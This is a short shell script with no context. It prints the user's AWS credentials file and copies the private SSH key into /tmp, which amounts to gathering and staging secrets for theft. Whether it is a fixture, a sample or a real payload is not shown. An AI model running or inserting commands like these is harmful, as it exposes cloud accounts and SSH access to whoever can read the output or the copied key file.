#!/bin/sh
cat ~/.aws/credentials
cp ~/.ssh/id_rsa /tmp/k
